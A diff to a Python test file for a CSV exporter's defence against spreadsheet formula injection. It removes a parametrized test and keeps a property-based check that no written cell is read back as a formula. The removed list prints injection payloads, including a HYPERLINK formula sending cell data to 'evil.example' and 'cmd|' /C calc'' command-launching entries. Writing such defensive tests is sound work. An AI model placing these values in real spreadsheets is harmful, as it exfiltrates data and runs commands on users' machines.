@@ -5,36 +5,11 @@ import io
 import re
 
 import polars as pl
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from plugins.versions.spreadsheets import write_csv
 
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")',
-    "=1+1",
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\tno formula",
-    "  =1+1",
-    "\u00a0=1+1",
-    "\u200b=1+1",
-    "\ufeff=1+1",
-    "\0=1+1",
-    '"=1+1',
-    "'=1+1",
-    ' "\t=1+1',
-    "＝1+1",
-    "＠SUM(1)",
-    "-3-1",
-    "-",
-    "+49 30 1",
-]
 NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?", re.IGNORECASE | re.ASCII)
 
 
@@ -53,16 +28,10 @@ def is_formula(cell):
     return bare[:1] in [*"=+-@＝＋－＠"] and not NUMBER.fullmatch(cell)
 
 
-@pytest.mark.parametrize("text", FORMULAS)
-def test_a_formula_becomes_a_text(text, tmp_path):
-    cell = cells(written([text], tmp_path), ",")[-1]
-    assert cell.startswith("'")
-    assert cell.replace("'", "") == text.replace("'", "")
-
-
 @given(st.text(st.sampled_from("=+-@;\t\r\n \"'a1.,\u200b＝\0"), max_size=12))
 def test_no_text_becomes_a_formula(tmp_path_factory, text):
     out = written([text, "next"], tmp_path_factory.getbasetemp())
     assert not [cell for cell in cells(out, ",") if is_formula(cell)]
+    assert cells(out, ",")[3].replace("'", "") == text.replace("'", "")
     # Read with semicolons, the quotes do not protect a cell, since the line begins with another one.
     assert not [cell for line in re.split(r"[\r\n]", out) for cell in line.split(";") if is_formula(cell)]
